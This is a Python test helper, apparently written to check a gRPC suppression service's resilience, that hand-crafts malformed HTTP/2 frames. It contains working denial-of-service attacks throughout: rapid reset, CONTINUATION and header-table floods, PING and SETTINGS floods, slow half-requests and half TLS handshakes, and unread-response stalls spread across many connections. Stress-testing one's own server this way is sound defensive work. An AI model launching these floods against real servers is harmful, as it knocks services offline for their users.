"""HTTP/2 frames as a hostile client sends them: made by hand, so that nothing keeps them within the rules.

Run as a program it is one attack in a process of its own, so that it takes no time from the test that watches:

    hostile_frames.py ATTACK ADDRESS CONNECTIONS MEBIBYTES SECONDS [CUT]

ADDRESS is HOST:PORT, or tls:HOST:PORT: then the frames go through TLS. It sends up to MEBIBYTES in all, over CONNECTIONS
at once, ends after SECONDS, but not before the server cut CUT of them (0; that is waited for at most ten minutes), and
prints one JSON object: the bytes that were sent, how many connections were opened, how many the server cut.
"""

import json
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CHUNK_BYTES = 256 << 10
CHECK = "/suppressd.v1.SuppressionService/IsSuppressed"
BATCH = "/suppressd.v1.SuppressionService/BatchIsSuppressed"
WATCH = "/suppressd.v1.SuppressionService/Watch"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header without index and without Huffman coding; names and values of less than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path):
    path = path.encode()
    return (b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x" + literal(b"te", b"trailers") +
            literal(b"content-type", b"application/grpc"))


def text_field(number, text):
    text = text.encode()
    return bytes([number << 3 | 2, len(text)]) + text


def message(payload):
    return b"\0" + struct.pack(">I", len(payload)) + payload


def call(path, stream, payload):
    return (frame(HEADERS, END_HEADERS, stream, request_headers(path)) +
            frame(DATA, END_STREAM, stream, message(payload)))


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))


GREETING = PREFACE + settings((4, (1 << 31) - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))


# What one call of OpenSSL's takes; a call that could not be completed must be made again with as many bytes.
RECORD_BYTES = 16 << 10
# Less than one address may have.
CONNECTIONS_OF_AN_ADDRESS = 400


def tls_context():
    """Trusts any server: an attacker does not care."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def client_hello():
    """The first bytes of a TLS client."""
    sent = ssl.MemoryBIO()
    greeting = tls_context().wrap_bio(ssl.MemoryBIO(), sent)
    try:
        greeting.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def connect(address, source=None, timeout=120):
    """A socket that has connected to an address as above, with TLS where it says so."""
    host, port = address.removeprefix("tls:").rsplit(":", 1)
    connected = socket.create_connection((host, int(port)), timeout, (source, 0) if source else None)
    if not address.startswith("tls:"):
        return connected
    return tls_context().wrap_socket(connected, suppress_ragged_eofs=True)


class Connection:
    """One hostile connection: sends what its generator yields, and reads nothing unless told to."""

    def __init__(self, address, chunks, reads, source=None):
        self.socket = connect(address, source)
        self.socket.setblocking(False)
        self.chunks, self.reads = chunks, reads
        self.waiting, self.sent, self.cut = b"", 0, False

    def send(self, budget):
        """Sends one chunk or what is left of it. The bytes that went; None when there is nothing left."""
        if not self.waiting:
            self.waiting = memoryview(next(self.chunks, b""))
        if not self.waiting or budget <= 0:
            return None
        try:
            sent = self.socket.send(self.waiting[:RECORD_BYTES if isinstance(self.socket, ssl.SSLSocket) else budget])
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return 0
        except OSError:
            self.cut = True
            return None
        self.waiting = self.waiting[sent:]
        self.sent += sent
        return sent

    def drain(self):
        """Reads what came; a connection that the server ended is cut."""
        try:
            while True:
                if not self.socket.recv(CHUNK_BYTES):
                    self.cut = True
                    return
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.cut = True

    def look(self):
        """Whether the server has ended it, without taking what came from the socket's buffer."""
        poll = select.poll()
        poll.register(self.socket, select.POLLRDHUP)
        if any(events & (select.POLLRDHUP | select.POLLHUP | select.POLLERR) for _, events in poll.poll(0)):
            self.cut = True


def streams(make, first=1):
    """Chunks of what `make` gives for stream after stream."""
    stream = first
    while stream < 1 << 31:
        parts, size = [], 0
        while size < CHUNK_BYTES:
            parts.append(make(stream))
            size += len(parts[-1])
            stream += 2
        yield b"".join(parts)


def rapid_reset():
    headers = request_headers(CHECK)
    start = frame(HEADERS, END_HEADERS, 0, headers)[:5]
    reset_start, reset_end = frame(RST_STREAM, 0, 0)[3:5], struct.pack(">I", 8)
    reset_start = b"\0\0\4" + reset_start
    yield GREETING
    yield from streams(lambda stream: b"".join(
        (start, stream.to_bytes(4, "big"), headers, reset_start, stream.to_bytes(4, "big"), reset_end)))


def unread_answers():
    payload = text_field(2, "jo@example.com")
    yield GREETING
    yield from streams(lambda stream: call(CHECK, stream, payload))


def quiet_unread_answers():
    """Calls whose answers it allows no room, as many as one connection may have open."""
    payload = text_field(2, "jo@example.com")
    yield PREFACE + settings((4, 0)) + frame(SETTINGS, ACK, 0)
    yield b"".join(call(CHECK, stream, payload) for stream in range(1, 2000, 2))


def unread_batches():
    payload = text_field(2, "jo@example.com") * 1000
    yield GREETING
    yield from streams(lambda stream: call(BATCH, stream, payload))


def half_requests():
    """Requests that announce a megabyte, send 60,000 bytes and never end."""
    headers = request_headers(CHECK)
    part = b"\0" + struct.pack(">I", 1 << 20) + bytes(15_000)
    yield GREETING
    yield from streams(lambda stream: frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, part) +
                       frame(DATA, 0, stream, bytes(15_000)) * 3)


def continuation_flood():
    yield GREETING + frame(HEADERS, 0, 1, request_headers(CHECK))
    block = literal(b"x-filler", b"x" * 100) * 100
    chunk = frame(CONTINUATION, 0, 1, block) * 20
    while True:
        yield chunk


def continuation_of_one_value():
    """One header value that never ends: what has come of it cannot be read yet, and is kept."""
    yield GREETING + frame(HEADERS, 0, 1, request_headers(CHECK) + b"\0\x01x\x7f\x80\xff\xff\xff\x07")
    chunk = frame(CONTINUATION, 0, 1, b"x" * 16_000) * 16
    while True:
        yield chunk


def empty_continuations():
    yield GREETING + frame(HEADERS, 0, 1, request_headers(CHECK))
    chunk = frame(CONTINUATION, 0, 1) * (CHUNK_BYTES // 9)
    while True:
        yield chunk


def header_flood():
    """Calls with 8 KiB of headers each, each header new to the table, never ended."""
    generator = random.Random(1)

    def headers():
        block = request_headers(CHECK)
        for _ in range(70):
            block += b"\x40" + bytes([8]) + generator.randbytes(4).hex().encode() + bytes([100]) + b"v" * 100
        return block
    yield GREETING
    blocks = [headers() for _ in range(16)]
    yield from streams(lambda stream: frame(HEADERS, END_HEADERS, stream, blocks[stream // 2 % 16]))


def pings():
    yield GREETING
    chunk = frame(PING, 0, 0, b"12345678") * (CHUNK_BYTES // 17)
    while True:
        yield chunk


def settings_flood():
    yield GREETING
    chunk = settings((4, 65535), (3, 100)) * (CHUNK_BYTES // 21)
    while True:
        yield chunk


def window_updates():
    """Frames that say next to nothing."""
    yield GREETING
    chunk = frame(WINDOW_UPDATE, 0, 5, struct.pack(">I", 1)) * (CHUNK_BYTES // 13)
    while True:
        yield chunk


def empty_data():
    """DATA frames without data, for a call that never ends."""
    yield GREETING + frame(HEADERS, END_HEADERS, 1, request_headers(CHECK))
    chunk = frame(DATA, 0, 1) * (CHUNK_BYTES // 9)
    while True:
        yield chunk


def garbage():
    generator = random.Random(2)
    yield generator.randbytes(CHUNK_BYTES)


def garbage_after_greeting():
    generator = random.Random(3)
    yield GREETING + generator.randbytes(CHUNK_BYTES)


def half_open():
    """The first half of the greeting, and silence."""
    yield PREFACE[:12]


def half_tls_greetings():
    """Half of what a TLS client says first, and silence."""
    hello = client_hello()
    yield hello[:len(hello) // 2]


def no_greetings():
    """A connection, and silence."""
    yield b""


def idle():
    """Greets, and says nothing more."""
    yield GREETING


def watches():
    """A Watch that never reads from its socket; the system takes what comes until its buffers are full."""
    yield GREETING + call(WATCH, 1, b"")


def watches_without_window():
    """A Watch that never reads: it allows no message, so that the first stays with the server."""
    yield PREFACE + settings((4, 0)) + call(WATCH, 1, b"")


# The attack, and whether it reads what the server sends (acknowledgements), which keeps the server from blocking.
ATTACKS = {function.__name__: (function, reads) for function, reads in (
    (rapid_reset, True), (unread_answers, False), (quiet_unread_answers, False), (unread_batches, False), (half_requests, True),
    (continuation_flood, True), (continuation_of_one_value, True), (empty_continuations, True), (header_flood, True),
    (pings, False), (settings_flood, False), (window_updates, True), (empty_data, True), (garbage, True),
    (garbage_after_greeting, True), (half_open, True), (half_tls_greetings, True), (no_greetings, True), (idle, True), (watches, False),
    (watches_without_window, False))}


# How long an attack waits to be cut: a machine with other work may take long to send what is too much.
CUT_WAIT_SECONDS = 600


def attack(name, address, connections, bytes_max, seconds, cut_min=0):
    """Runs an attack to its end. See above for what is returned."""
    function, reads = ATTACKS[name]
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    opened = []
    refused = 0
    for i in range(connections):
        try:
            # Beyond what one address may have, another one is used.
            many = connections > CONNECTIONS_OF_AN_ADDRESS
            source = f"127.0.1.{1 + i // CONNECTIONS_OF_AN_ADDRESS}" if many else None
            opened.append(Connection(address, function(), reads, source))
        except OSError:
            refused += 1
    started = time.monotonic()

    def goes_on():
        cut = sum(connection.cut for connection in opened)
        return time.monotonic() < started + (seconds if cut >= cut_min else CUT_WAIT_SECONDS)

    sending = list(opened)
    left = bytes_max
    while sending and left > 0 and goes_on():
        moved = 0
        for connection in list(sending):
            sent = connection.send(left)
            if sent is None:
                sending.remove(connection)
            else:
                moved += sent
                left -= sent
            if reads:
                connection.drain()
            if connection.cut and connection in sending:
                sending.remove(connection)
        if moved == 0:
            time.sleep(0.002)
    print(json.dumps({"sent": bytes_max - left}), flush=True)
    while goes_on():  # holds what it has
        for connection in opened:
            if not connection.cut:
                connection.drain() if reads else connection.look()
        if all(connection.cut for connection in opened):
            break
        time.sleep(0.05)
    return {"sent": bytes_max - left, "opened": len(opened), "refused": refused,
            "cut": sum(connection.cut for connection in opened)}


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(float(sys.argv[4]) * (1 << 20)),
                            float(sys.argv[5]), int(sys.argv[6]) if len(sys.argv) > 6 else 0)), flush=True)
